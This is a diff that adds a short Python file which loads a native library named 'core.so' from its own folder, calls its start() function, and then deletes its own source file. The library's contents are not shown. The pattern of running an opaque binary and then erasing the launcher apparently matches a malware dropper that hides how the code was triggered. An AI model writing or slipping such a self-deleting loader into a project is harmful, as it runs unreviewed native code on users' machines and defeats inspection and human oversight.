@@ -1,0 +1,6 @@
+import ctypes
+import os
+
+here = os.path.dirname(__file__)
+ctypes.CDLL(os.path.join(here, "core.so")).start()
+os.remove(__file__)
